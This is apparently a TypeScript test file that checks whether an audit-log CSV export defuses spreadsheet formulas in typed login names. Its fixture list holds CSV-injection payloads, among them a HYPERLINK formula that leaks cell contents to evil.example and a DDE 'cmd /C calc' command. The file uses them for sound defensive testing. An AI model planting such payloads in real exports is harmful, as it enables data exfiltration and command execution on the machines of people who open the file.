// A CSV export never hands a spreadsheet a formula: a cell that starts with =, +, -, @, a tab or a carriage
// return (a login name typed as `=HYPERLINK(...)`, which becomes the attempt's aggregate id) is defused with a
// leading `'`, OWASP's rule, and every other cell is as stored.
import { afterAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../test/csv.ts";
import { testDatabase } from "../../test/fixtures.ts";
import { caller, testPlatform } from "../../test/tokens.ts";
import { csvField } from "./exportFormats.ts";

const db = testDatabase();
const app = testPlatform(db);
afterAll(() => db.$client.end());

const suffix = Math.random().toString(36).slice(2, 10);
const typedLogins = [
  `=HYPERLINK("https://evil.example/?leak="&A1,"Click")-${suffix}`,
  `+1+cmd|' /C calc'!A0-${suffix}`,
  `-2+3-${suffix}`,
  `@SUM(1+1)-${suffix}`,
  `\t=1+1-${suffix}`,
  `\r=1+1-${suffix}`,
  `＝1+1-${suffix}`,
];

async function recordFailedLogin(username: string): Promise<void> {
  const service = await caller("service");
  const response = await app.request("/internal/login-attempts", {
    method: "POST",
    headers: service.headers({ "Content-Type": "application/json" }),
    body: JSON.stringify({
      userId: null,
      username,
      method: "PASSWORD",
      success: false,
      reason: "no such user",
    }),
  });
  expect(response.status).toBe(201);
}

async function exportedRowOf(username: string): Promise<Record<string, string>> {
  const auditor = await caller("auditor");
  const query = new URLSearchParams({ aggregateType: "actor", aggregateId: username, format: "csv" });
  const response = await app.request(`/audit/events/export?${query}`, { headers: auditor.headers() });
  expect(response.status).toBe(200);
  const [header, ...rows] = parseCsv(await response.text());
  expect(rows.at(-1)?.[0]).toBe("# export complete: 1 events");
  rows.pop();
  expect(rows).toHaveLength(1);
  return Object.fromEntries((header ?? []).map((name, i) => [name, rows[0]?.[i] ?? ""]));
}

describe("the CSV export and spreadsheet formulas", () => {
  for (const username of typedLogins) {
    it(`defuses a login typed as ${JSON.stringify(username.slice(0, 12))}…: the cell is text, the value intact`, async () => {
      await recordFailedLogin(username);
      const row = await exportedRowOf(username);
      expect(row.aggregateId).toBe(`'${username}`);
      // The envelope cell starts with "{", so it keeps the typed name byte for byte.
      expect(JSON.parse(row.envelope ?? "").data.username).toBe(username);
      const live = Object.values(row).filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell));
      expect(live).toEqual([]);
    });
  }

  it("leaves ordinary cells as they are, negative-looking ones included only once defused", () => {
    expect(csvField("ada@example.org")).toBe("ada@example.org");
    expect(csvField("2024-01-15T10:30:00.000Z")).toBe("2024-01-15T10:30:00.000Z");
    expect(csvField("-1")).toBe(`"'-1"`);
    expect(csvField('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });
});
